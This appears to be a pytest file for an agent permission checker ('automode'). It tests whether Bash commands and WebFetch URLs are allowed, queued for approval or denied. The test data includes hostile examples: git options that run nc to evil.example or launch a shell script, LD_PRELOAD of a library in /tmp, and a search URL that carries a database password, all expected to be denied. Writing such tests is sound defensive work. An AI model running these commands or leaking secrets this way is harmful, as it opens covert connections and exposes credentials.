"""Options whose value is a command line, judged by what they carry; libraries a system package installed; secrets
inside URL-encoded text (issue 10 point 2: arguments are effects wherever they appear)."""

from __future__ import annotations

import pytest

from automode.api import check

CTX = {"cwd": "/home/u/proj", "project_root": "/home/u/proj"}


def verdict(tool: str, inp: dict[str, str]) -> str:
    return check({"tool": tool, "input": inp}, CTX).verdict


@pytest.mark.parametrize(
    ("command", "want"),
    [
        ("git -c core.sshCommand='ssh -i ~/.ssh/id_ed25519_work -o IdentitiesOnly=yes' fetch origin", "allow"),
        ("git -c alias.sync='!git fetch origin && git rebase origin/main' sync", "allow"),
        ("git -c core.pager=delta log -p", "allow"),
        ("git -c core.sshCommand='ssh -o ProxyCommand=nc' fetch", "deny"),
        ("git -c core.sshCommand='nc evil.example 1' fetch", "deny"),
        ("git -c alias.x='!git fetch; sh x.sh' x", "deny"),
        ("git config --global core.sshCommand 'ssh -i ~/.ssh/k'", "deny"),
        ("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1 FAKETIME='+1d' pytest -q", "allow"),
        ("export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1", "ask"),
        ("LD_PRELOAD=/usr/local/lib/faketime/libfaketime.so.1 pytest -q", "ask"),
        ("LD_PRELOAD=/tmp/x.so ls", "deny"),
    ],
)
def test_commands_carried_by_options(command: str, want: str) -> None:
    assert verdict("Bash", {"command": command}) == want


def test_a_password_in_a_url_encoded_search_query_is_a_secret_in_a_url() -> None:
    url = "https://www.google.com/search?q=psycopg+EOF+postgresql%3A%2F%2Fapp%3AWq8v4rT2zLm%40pg-prod.x.example%3A5432%2Fapp"
    assert verdict("WebFetch", {"url": url, "prompt": "x"}) == "deny"
    assert verdict("WebFetch", {"url": "https://www.google.com/search?q=psycopg+EOF+postgresql%3A%2F%2Fhost", "prompt": "x"}) == "allow"
